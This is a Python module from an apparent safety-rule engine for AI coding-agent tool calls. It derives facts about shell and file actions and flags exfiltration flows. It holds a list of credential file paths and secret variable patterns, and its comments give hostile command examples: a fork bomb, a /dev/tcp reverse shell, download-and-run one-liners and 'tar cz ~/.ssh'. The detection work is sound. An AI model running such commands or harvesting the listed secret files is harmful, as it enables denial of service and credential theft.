"""What a tool call would do, as facts rules match on: the one shape every rule sees.

:func:`derive` turns a normalized tool call (kodelet's tool names, so the same for every
agent) into :class:`Facts`: the kind of tool; for a shell command every simple command it
reaches (:mod:`.shell`, :mod:`.commands`) with its paths resolved against the call's cwd
(:mod:`.paths`); for file tools the path they name; and where data flows: a secret file or
the environment sent to a network program, or a network download run by an interpreter.

A fork bomb (a function that calls itself in a pipe or in the background,
``:(){ :|:& };:``) appears as a :class:`Command` whose program is ``"(fork-bomb)"``,
so a rule matches it with ``program = ["(fork-bomb)"]``.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Mapping, Sequence
from typing import Any, Literal

import attrs

from . import commands as cmds
from .paths import PathFact, Places, Zone, cwd_after, glob_regex, resolve
from .shell import FORK_BOMB, Parser
from .words import Word, braces

Kind = Literal["shell", "write", "edit", "read", "search", "fetch", "mcp", "agent", "other"]

KINDS: dict[str, Kind] = {
    "bash": "shell",
    "file_write": "write",
    "file_edit": "edit",
    "file_multi_edit": "edit",
    "file_read": "read",
    "glob_tool": "search",
    "grep_tool": "search",
    "web_fetch": "fetch",
    "subagent": "agent",
}

SECRET_PATHS: tuple[str, ...] = (
    "~/.ssh/*", "~/.aws/**", "~/.netrc", "~/.config/gcloud/**", "~/.kube/config",
    "~/.docker/config.json", "~/.gnupg/**", "~/.git-credentials", "~/.npmrc", "~/.pypirc",
    "~/.config/gh/hosts.yml", "~/.azure/**", "~/.password-store/**", "~/.vault-token",
    "~/.cargo/credentials*", "~/.terraform.d/credentials*", "**/.env", "**/.env.*",
    "**/*.pem", "**/*.key", "**/*.p12", "**/*.pfx", "**/id_rsa*", "**/id_dsa*",
    "**/id_ecdsa*", "**/id_ed25519*", "**/.pgpass", "/etc/shadow", "/etc/gshadow",
    "/etc/sudoers", "/etc/ssh/ssh_host_*",
)  # fmt: skip
"""Files whose contents are credentials: reading one and sending it out is exfiltration."""

NOT_SECRET = (".pub", ".example", ".sample", ".template", ".dist", "known_hosts")
"""Endings that make a match above a public or placeholder file."""

ENV_DUMPERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen"})
SECRET_VAR = re.compile(
    r"(SECRET|TOKEN|PASSW|CREDENTIAL|API_?KEY|PRIVATE|ACCESS_KEY|SESSION)", re.I
)
INTERPRETERS = frozenset({
    *cmds.SHELLS, "eval", "source", ".", "node", "nodejs", "perl", "ruby", "php", "deno",
    "bun", "lua", "Rscript", "osascript", "pwsh", "powershell", "tclsh", "awk",
})  # fmt: skip


@attrs.frozen
class Command:
    program: str
    dynamic: bool
    subcommand: str
    flags: frozenset[str]
    args: tuple[str, ...]
    paths: tuple[PathFact, ...]
    writes: tuple[PathFact, ...]
    reads: tuple[PathFact, ...]
    via: tuple[str, ...]
    stdin_from: tuple[str, ...]
    text: str

    def to_dict(self) -> dict[str, Any]:
        return {
            "program": self.program,
            "dynamic": self.dynamic,
            "subcommand": self.subcommand,
            "flags": sorted(self.flags),
            "args": list(self.args),
            "paths": [p.to_dict() for p in self.paths],
            "writes": [p.to_dict() for p in self.writes],
            "reads": [p.to_dict() for p in self.reads],
            "via": list(self.via),
            "stdin_from": list(self.stdin_from),
            "text": self.text,
        }


@attrs.frozen
class Flow:
    source: str  # "file:<zone>" | "secret-file" | "env" | a program name
    sink: str  # a network program, or "interpreter"

    def to_dict(self) -> dict[str, str]:
        return {"source": self.source, "sink": self.sink}


@attrs.frozen
class Facts:
    tool: str
    kind: Kind
    cwd: str
    project: str
    home: str
    commands: tuple[Command, ...] = ()
    files: tuple[PathFact, ...] = ()
    writes: tuple[PathFact, ...] = ()
    reads: tuple[PathFact, ...] = ()
    flows: tuple[Flow, ...] = ()
    dynamic: bool = False
    parse_error: str = ""

    def to_dict(self) -> dict[str, Any]:
        """JSON-able; what CEL conditions and ``rules explain --json`` see."""
        return {
            "tool": self.tool,
            "kind": self.kind,
            "cwd": self.cwd,
            "project": self.project,
            "home": self.home,
            "commands": [c.to_dict() for c in self.commands],
            "files": [p.to_dict() for p in self.files],
            "writes": [p.to_dict() for p in self.writes],
            "reads": [p.to_dict() for p in self.reads],
            "flows": [f.to_dict() for f in self.flows],
            "dynamic": self.dynamic,
            "parse_error": self.parse_error,
        }


def kind_of(tool_name: str) -> Kind:
    if tool_name.startswith("mcp__"):
        return "mcp"
    return KINDS.get(tool_name, "other")


PATH_KEYS = ("file_path", "notebook_path", "path", "filePath", "absolute_path")
CWD_KEYS = ("workdir", "cwd")


def derive(
    tool_name: str,
    tool_input: Mapping[str, Any],
    *,
    cwd: str,
    project: str,
    home: str,
    kodelet_home: str,
    parser: Parser | None = None,
) -> Facts:
    """The facts of one tool call. ``parser`` caches parses by command text (the engine
    passes its own); without one each call parses afresh."""
    kind = kind_of(tool_name)
    places = (parser or Parser(size=0)).places(project, home, kodelet_home)
    base = cwd or project
    for key in CWD_KEYS:
        value = tool_input.get(key)
        if isinstance(value, str) and value and "\x00" not in value:
            base = posixpath.normpath(posixpath.join(base, posixpath.expanduser(value)))
            break
    facts = Facts(tool=tool_name, kind=kind, cwd=base, project=project, home=home)
    if kind == "shell":
        command = tool_input.get("command")
        if not isinstance(command, str):
            return attrs.evolve(facts, parse_error="the call has no command text")
        return _shell(facts, command, parser or Parser(size=0), places)
    files: list[PathFact] = []
    for key in PATH_KEYS:
        value = tool_input.get(key)
        if isinstance(value, str) and value:
            files.append(resolve(_word(value), cwd=base, places=places, home=home))
            break
    else:
        if kind == "search":
            files.append(resolve(_word("."), cwd=base, places=places, home=home))
    writes = tuple(files) if kind in ("write", "edit") else ()
    reads = tuple(files) if kind in ("read", "search") else ()
    return attrs.evolve(facts, files=tuple(files), writes=writes, reads=reads)


def _word(text: str) -> Word:
    """A path as a file tool names it: literal, with a leading ``~`` expanded."""
    if text == "~" or text.startswith("~/"):
        return Word((("tilde", ""), ("lit", text[1:])))
    return Word((("lit", text),))


def _shell(facts: Facts, text: str, parser: Parser, places: Places) -> Facts:
    parsed = parser.parse(text)
    raws = parsed.commands
    home = facts.home
    out: list[Command] = []
    seen: dict[tuple[Word, str | None], PathFact] = {}
    piped: list[tuple[str, ...]] = []  # per command: programs piped into it, transitively
    for raw in raws:
        where = cwd_after(raw.cds, facts.cwd, home)

        def res(words: tuple[Word, ...], where: str | None = where) -> tuple[PathFact, ...]:
            found = []
            for w in words:
                for each in braces(w):
                    fact = seen.get((each, where))
                    if fact is None:
                        fact = resolve(each, cwd=where, places=places, home=home)
                        if each is not w:
                            fact = attrs.evolve(fact, raw=w.text)
                        seen[(each, where)] = fact
                    found.append(fact)
            return tuple(dict.fromkeys(found))

        stdin_from = tuple(
            dict.fromkeys(
                p
                for i in raw.upstream
                if 0 <= i < len(piped)
                for p in (*piped[i], raws[i].program)
                if p
            )
        )[-MAX_FEED:]
        piped.append(stdin_from)
        out.append(
            Command(
                program=raw.program,
                dynamic=raw.dynamic,
                subcommand=raw.subcommand,
                flags=raw.flags,
                args=tuple(w.text for w in raw.args),
                paths=res(raw.paths),
                writes=res(raw.writes),
                reads=res(raw.reads),
                via=raw.via,
                stdin_from=stdin_from,
                text=raw.text,
            )
        )
    writes = tuple(dict.fromkeys(p for c in out for p in c.writes))
    reads = tuple(dict.fromkeys(p for c in out for p in c.reads))
    return attrs.evolve(
        facts,
        commands=tuple(out),
        files=tuple(dict.fromkeys((*writes, *reads))),
        writes=writes,
        reads=reads,
        flows=_flows(raws, out, home),
        dynamic=any(c.dynamic for c in out),
        parse_error=parsed.parse_error,
    )


SECRET_DIRS = ("", ".ssh", ".aws", ".gnupg", ".config", ".config/gcloud", ".kube", ".docker",
               ".azure", ".password-store")  # fmt: skip
"""Folders of the home (and the home itself) that hold secrets: reading one whole
(``tar cz ~/.ssh``) reads them."""


def is_secret(path: str, home: str) -> bool:
    """Whether a resolved path is one of :data:`SECRET_PATHS` or a folder holding them."""
    if not path or path.endswith(NOT_SECRET):
        return False
    home = home.rstrip("/")
    if home and (path == home or path.startswith(home + "/")):
        rel = "~" + path[len(home) :]
        if rel.rstrip("/") in _SECRET_DIRS or _HOME_SECRETS.match(rel):
            return True
    return bool(_ANY_SECRETS.match(path))


def _glob_re(pattern: str) -> str:
    """A regular expression for one glob of :data:`SECRET_PATHS`: anywhere, unless it
    starts at the root or at home."""
    body = glob_regex(pattern)
    return body if body.startswith(("/", "~")) else "(?:.*/)?" + body


_SECRET_DIRS = frozenset(("~/" + d).rstrip("/") for d in SECRET_DIRS)
_HOME_SECRETS = re.compile(
    "(?:" + "|".join(_glob_re(p) for p in SECRET_PATHS if p.startswith("~/")) + r")\Z"
)
_ANY_SECRETS = re.compile(
    "(?:" + "|".join(_glob_re(p) for p in SECRET_PATHS if not p.startswith("~/")) + r")\Z"
)


def _network(c: Command, raw: cmds.Raw) -> bool:
    if raw.network:
        return True
    if c.program in ("rsync", "scp", "sftp"):
        return any(":" in a.split("/", 1)[0] for a in c.args)
    if c.program == "openssl":
        return c.subcommand == "s_client"
    return c.program in cmds.NETWORK


def _interpreter(c: Command) -> bool:
    return c.program in INTERPRETERS or bool(cmds.PYTHONS.match(c.program))


def _sources(c: Command, raw: cmds.Raw, home: str) -> list[str]:
    """Where data a command emits comes from: secret files, other files, the environment."""
    found: list[str] = []
    if (
        c.program in ("env", "printenv")
        or (c.program in ENV_DUMPERS and not [a for a in c.args if "=" not in a])
        or (c.program in ("export", "declare", "typeset") and c.flags & {"p", "x"})
        or raw.reads_env
    ):
        found.append("env")
    for p in c.reads:
        if p.path.startswith("/proc/") and p.path.endswith("/environ"):
            found.append("env")
        elif is_secret(p.path, home):
            found.append("secret-file")
        else:
            found.append(f"file:{p.zone}")
    if any(SECRET_VAR.search(v) for v in raw.env_vars):
        found.append("env")
    return found


def _flows(raws: Sequence[cmds.Raw], out: Sequence[Command], home: str) -> tuple[Flow, ...]:
    flows: list[Flow] = []
    downloaded: dict[str, str] = {}  # path a network program saved -> that program
    for i, c in enumerate(out):
        raw = raws[i]
        network = _network(c, raw)
        if network:
            feeding = _closure(raws, (*raw.upstream, *raw.inner))
            for src in _sources(c, raw, home):
                flows.append(Flow(src, c.program))
            for j in feeding:
                if j != i:
                    for src in _sources(out[j], raws[j], home):
                        flows.append(Flow(src, c.program))
            for p in c.writes:
                if p.path:
                    downloaded.setdefault(p.path, c.program)
        if _interpreter(c) or c.program == "":
            if raw.code_from_stdin or c.program in ("eval", "source", "."):
                for j in _closure(raws, raw.upstream):
                    if _network(out[j], raws[j]):
                        flows.append(Flow(out[j].program, "interpreter"))
            for j in _closure(raws, raw.inner):
                if _network(out[j], raws[j]):
                    flows.append(Flow(out[j].program, "interpreter"))
            if raw.runs_fetched:  # bash -i >& /dev/tcp/host/port 0>&1; exec(urlopen(u).read())
                flows.append(Flow("network", "interpreter"))
            for p in c.reads:  # curl -o i.sh URL && sh i.sh
                if p.path in downloaded:
                    flows.append(Flow(downloaded[p.path], "interpreter"))
    return tuple(dict.fromkeys(flows))


def _closure(raws: Sequence[cmds.Raw], start: Sequence[int], inner: bool = True) -> list[int]:
    """``start`` and every command feeding them (their pipes and, with ``inner``, their
    substitutions), at most :data:`MAX_FEED` of them."""
    seen: set[int] = set()
    stack = [i for i in start if 0 <= i < len(raws)]
    while stack and len(seen) < MAX_FEED:
        i = stack.pop()
        if i in seen:
            continue
        seen.add(i)
        more = (*raws[i].upstream, *raws[i].inner) if inner else raws[i].upstream
        stack.extend(j for j in more if 0 <= j < len(raws) and j not in seen)
    return sorted(seen)


MAX_FEED = 64
"""Commands followed back from one command (a longer pipe is judged by its last 64)."""


__all__ = [
    "FORK_BOMB", "SECRET_PATHS", "Command", "Facts", "Flow", "Kind", "PathFact", "Zone",
    "derive", "is_secret", "kind_of",
]  # fmt: skip
